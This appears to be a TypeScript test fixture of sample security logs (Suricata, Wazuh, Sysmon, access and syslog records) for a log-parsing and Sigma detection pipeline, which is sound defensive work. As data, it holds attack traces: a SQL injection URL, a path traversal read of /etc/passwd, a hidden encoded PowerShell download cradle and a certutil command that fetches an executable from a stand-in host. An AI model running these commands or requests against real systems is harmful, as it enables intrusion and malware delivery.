// Real-looking records of every source kind, shared by the parser tests, the Sigma integration test and
// bench/parsers.bench.ts. Shapes follow the products' documentation and public sample logs.
import type { SourceKind } from '../event-schema.ts';

export const SURICATA_ALERT = {
  timestamp: '2026-11-21T10:00:00.123456+0800',
  flow_id: 1_820_571_292_416_131,
  in_iface: 'eth1',
  event_type: 'alert',
  src_ip: '203.0.113.9',
  src_port: 51515,
  dest_ip: '10.10.1.20',
  dest_port: 80,
  proto: 'TCP',
  app_proto: 'http',
  alert: {
    action: 'allowed',
    gid: 1,
    signature_id: 2_006_446,
    rev: 14,
    signature: 'ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT',
    category: 'Web Application Attack',
    severity: 1,
  },
  http: {
    hostname: 'www.example.gov.cn',
    url: "/news/list.php?id=1'%20union%20select%201,2,3--",
    http_user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
    http_method: 'GET',
    protocol: 'HTTP/1.1',
    status: 200,
    length: 5120,
  },
};

export const SURICATA_HTTP = {
  timestamp: '2026-11-21T10:00:01.000000+0800',
  flow_id: 1_820_571_292_416_132,
  event_type: 'http',
  src_ip: '198.51.100.7',
  src_port: 40000,
  dest_ip: '10.10.1.20',
  dest_port: 80,
  proto: 'TCP',
  http: {
    hostname: 'www.example.gov.cn',
    url: '/download.php?file=../../../../etc/passwd',
    http_user_agent: 'Mozilla/5.0',
    http_refer: 'http://www.example.gov.cn/',
    http_method: 'GET',
    protocol: 'HTTP/1.1',
    status: 200,
    length: 1432,
  },
};

export const SURICATA_DNS = {
  timestamp: '2026-11-21T10:00:02.000000+0800',
  event_type: 'dns',
  src_ip: '10.10.2.15',
  src_port: 53124,
  dest_ip: '10.10.0.2',
  dest_port: 53,
  proto: 'UDP',
  dns: { version: 3, type: 'request', id: 4242, queries: [{ rrname: 'update.example-c2.top', rrtype: 'A' }] },
};

export const SURICATA_TLS = {
  timestamp: '2026-11-21T10:00:03.000000+0800',
  event_type: 'tls',
  src_ip: '10.10.2.15',
  src_port: 50500,
  dest_ip: '192.0.2.44',
  dest_port: 443,
  proto: 'TCP',
  tls: {
    subject: 'CN=portal.example.gov.cn',
    issuerdn: 'CN=Example CA',
    fingerprint: '9e:39:3d:93:13:88:88:d2:88:26:6c:2d:91:52:14:d1:d1:cc:eb:2a',
    sni: 'portal.example.gov.cn',
    version: 'TLS 1.3',
  },
};

export const SURICATA_FILEINFO = {
  timestamp: '2026-11-21T10:00:04.000000+0800',
  event_type: 'fileinfo',
  src_ip: '192.0.2.44',
  src_port: 80,
  dest_ip: '10.10.2.15',
  dest_port: 50501,
  proto: 'TCP',
  http: { hostname: 'dl.example.top', url: '/payload.exe', http_method: 'GET', status: 200 },
  fileinfo: {
    filename: '/payload.exe',
    magic: 'PE32 executable',
    state: 'CLOSED',
    md5: '44d88612fea8a8f36de82e1278abb02f',
    sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
    size: 68,
  },
};

export const SURICATA_ANOMALY = {
  timestamp: '2026-11-21T10:00:05.000000+0800',
  event_type: 'anomaly',
  src_ip: '203.0.113.9',
  dest_ip: '10.10.1.20',
  proto: 'TCP',
  anomaly: { type: 'stream', event: 'stream.pkt_invalid_timestamp', layer: 'proto_detect' },
};

export const SURICATA_FLOW = {
  timestamp: '2026-11-21T10:00:06.000000+0800',
  event_type: 'flow',
  src_ip: '10.10.2.15',
  src_port: 50500,
  dest_ip: '192.0.2.44',
  dest_port: 443,
  proto: 'TCP',
  flow: {
    pkts_toserver: 12,
    pkts_toclient: 10,
    bytes_toserver: 2048,
    bytes_toclient: 8096,
    state: 'closed',
    reason: 'timeout',
  },
};

export const WAZUH_SSHD = {
  timestamp: '2026-11-21T10:00:00.123+0800',
  rule: {
    level: 5,
    description: 'sshd: authentication failed.',
    id: '5716',
    firedtimes: 3,
    mail: false,
    groups: ['syslog', 'sshd', 'authentication_failed'],
    mitre: { id: ['T1110.001'], tactic: ['Credential Access'] },
  },
  agent: { id: '003', name: 'web01', ip: '10.10.1.20' },
  manager: { name: 'wazuh-manager' },
  id: '1763690400.123456',
  full_log:
    'Nov 21 10:00:00 web01 sshd[2214]: Failed password for invalid user admin from 203.0.113.9 port 40022 ssh2',
  predecoder: { program_name: 'sshd', timestamp: 'Nov 21 10:00:00', hostname: 'web01' },
  decoder: { parent: 'sshd', name: 'sshd' },
  data: { srcip: '203.0.113.9', srcport: '40022', srcuser: 'admin' },
  location: '/var/log/auth.log',
};

export const WAZUH_WINDOWS = {
  timestamp: '2026-11-21T10:00:00.500+0800',
  rule: {
    level: 12,
    description: 'Suspicious encoded PowerShell',
    id: '92057',
    groups: ['windows', 'sysmon'],
  },
  agent: { id: '007', name: 'WS-ZHANG', ip: '10.10.2.15' },
  data: {
    win: {
      system: {
        providerName: 'Microsoft-Windows-Sysmon',
        eventID: '1',
        channel: 'Microsoft-Windows-Sysmon/Operational',
        computer: 'WS-ZHANG.corp.example',
        systemTime: '2026-11-21T02:00:00.4871234Z',
      },
      eventdata: {
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
        parentImage: 'C:\\Windows\\System32\\cmd.exe',
        user: 'CORP\\zhang',
      },
    },
  },
  location: 'EventChannel',
};

const SYSMON_PROCESS_DATA = {
  RuleName: '-',
  UtcTime: '2026-11-21 02:00:00.487',
  ProcessGuid: '{8a5b4c1e-1f00-6739-2a01-000000000700}',
  ProcessId: 6724,
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  FileVersion: '10.0.19041.3996',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  CurrentDirectory: 'C:\\Users\\zhang\\',
  User: 'CORP\\zhang',
  IntegrityLevel: 'Medium',
  Hashes:
    'MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C',
  ParentProcessId: 5120,
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  ParentCommandLine: 'cmd.exe /c start.bat',
};

/** Winlogbeat 8.x: Sysmon process creation. */
export const WINLOGBEAT_SYSMON_1 = {
  '@timestamp': '2026-11-21T02:00:00.487Z',
  event: { code: '1', kind: 'event', provider: 'Microsoft-Windows-Sysmon', module: 'sysmon' },
  host: { name: 'WS-ZHANG' },
  winlog: {
    channel: 'Microsoft-Windows-Sysmon/Operational',
    event_id: '1',
    provider_name: 'Microsoft-Windows-Sysmon',
    computer_name: 'WS-ZHANG.corp.example',
    record_id: 884211,
    user: { identifier: 'S-1-5-18', name: 'SYSTEM', domain: 'NT AUTHORITY', type: 'User' },
    event_data: SYSMON_PROCESS_DATA,
  },
  message:
    'Process Create:\nRuleName: -\nImage: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
};

/** evtx_dump (omerbenamram/evtx) JSON: Sysmon process creation, attributes under #attributes. */
export const EVTX_DUMP_SYSMON_1 = {
  Event: {
    '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
    System: {
      Provider: {
        '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' },
      },
      EventID: 1,
      Version: 5,
      Level: 4,
      Task: 1,
      Opcode: 0,
      Keywords: '0x8000000000000000',
      TimeCreated: { '#attributes': { SystemTime: '2026-11-21T02:00:00.487123Z' } },
      EventRecordID: 884211,
      Correlation: null,
      Execution: { '#attributes': { ProcessID: 3044, ThreadID: 4108 } },
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'WS-ZHANG.corp.example',
      Security: { '#attributes': { UserID: 'S-1-5-18' } },
    },
    EventData: {
      ...SYSMON_PROCESS_DATA,
      CommandLine: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe',
      Image: 'C:\\Windows\\System32\\certutil.exe',
      OriginalFileName: 'CertUtil.exe',
    },
  },
};

/** xmltodict-style export (python-evtx + xmltodict): Security 4625, Data as a list of @Name/#text. */
export const XMLTODICT_SECURITY_4625 = {
  Event: {
    System: {
      Provider: {
        '@Name': 'Microsoft-Windows-Security-Auditing',
        '@Guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
      },
      EventID: '4625',
      Level: '0',
      TimeCreated: { '@SystemTime': '2026-11-21 02:00:00.123456+00:00' },
      EventRecordID: '5521',
      Channel: 'Security',
      Computer: 'DC01.corp.example',
    },
    EventData: {
      Data: [
        { '@Name': 'TargetUserName', '#text': 'administrator' },
        { '@Name': 'TargetDomainName', '#text': 'CORP' },
        { '@Name': 'LogonType', '#text': '3' },
        { '@Name': 'IpAddress', '#text': '203.0.113.9' },
        { '@Name': 'IpPort', '#text': '51234' },
        { '@Name': 'WorkstationName', '#text': '-' },
      ],
    },
  },
};

/** NXLog im_msvistalog with to_json(): flat fields. */
export const NXLOG_SECURITY_4688 = {
  EventTime: '2026-11-21 10:00:00',
  Hostname: 'WS-LI.corp.example',
  EventID: 4688,
  SourceName: 'Microsoft-Windows-Security-Auditing',
  Channel: 'Security',
  Severity: 'INFO',
  NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
  CommandLine: 'whoami /all',
  NewProcessId: '0x1a2c',
  ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
  SubjectUserName: 'li',
  SubjectDomainName: 'CORP',
  Message: 'A new process has been created.',
};

export const ACCESS_LOG_LINES = [
  '203.0.113.9 - - [21/Nov/2026:10:00:00 +0800] "GET /news/list.php?id=1%27%20union%20select%201,2,3-- HTTP/1.1" 200 5120 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
  '198.51.100.7 - - [21/Nov/2026:10:00:01 +0800] "GET /download.php?file=../../../../etc/passwd HTTP/1.1" 200 1432 "-" "Mozilla/5.0"',
  '10.10.2.15 - - [21/Nov/2026:10:00:02 +0800] "GET /index.html HTTP/1.1" 200 20480 "https://www.example.gov.cn/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"',
  '203.0.113.9 - - [21/Nov/2026:10:00:03 +0800] "GET /.git/config HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
];

export const SYSLOG_LINES = [
  '<38>Nov 21 10:00:00 web01 sshd[2214]: Failed password for invalid user admin from 203.0.113.9 port 40022 ssh2',
  '<165>1 2026-11-21T10:00:00.003+08:00 fw01 firewall 812 DENY [meta@32473 src="203.0.113.9" dst="10.10.1.20"] connection denied',
  '<189>123: *Nov 21 10:00:00.483 UTC: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 203.0.113.9]',
  '<189>date=2026-11-21 time=10:00:00 devname="FG100E" devid="FG100E3G16000000" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.10.2.15 srcport=50500 dstip=192.0.2.44 dstport=443 action="accept"',
  '<134>Nov 21 10:00:00 ids01 CEF:0|Example|IDS|2.1|1001|Port scan|7|src=203.0.113.9 dst=10.10.1.20 dpt=22',
];

/** One record per kind, as text, for the fuzzer's seeds and the bench. */
export const SAMPLE_RECORDS: Readonly<Record<SourceKind, readonly string[]>> = {
  syslog: SYSLOG_LINES,
  suricata_eve: [
    SURICATA_ALERT,
    SURICATA_HTTP,
    SURICATA_DNS,
    SURICATA_TLS,
    SURICATA_FILEINFO,
    SURICATA_ANOMALY,
    SURICATA_FLOW,
  ].map((o) => JSON.stringify(o)),
  wazuh_alerts: [WAZUH_SSHD, WAZUH_WINDOWS].map((o) => JSON.stringify(o)),
  windows_json: [WINLOGBEAT_SYSMON_1, EVTX_DUMP_SYSMON_1, XMLTODICT_SECURITY_4625, NXLOG_SECURITY_4688].map(
    (o) => JSON.stringify(o),
  ),
  access_log: ACCESS_LOG_LINES,
  ndjson: [
    JSON.stringify({
      '@timestamp': '2026-11-21T02:00:00Z',
      'source.ip': '203.0.113.9',
      'url.path': '/wp-login.php',
      message: 'probe',
    }),
    JSON.stringify({
      time: 1763690400,
      source: { ip: '10.0.0.1' },
      user: { name: 'zhang' },
      logsource: { product: 'linux' },
    }),
  ],
};
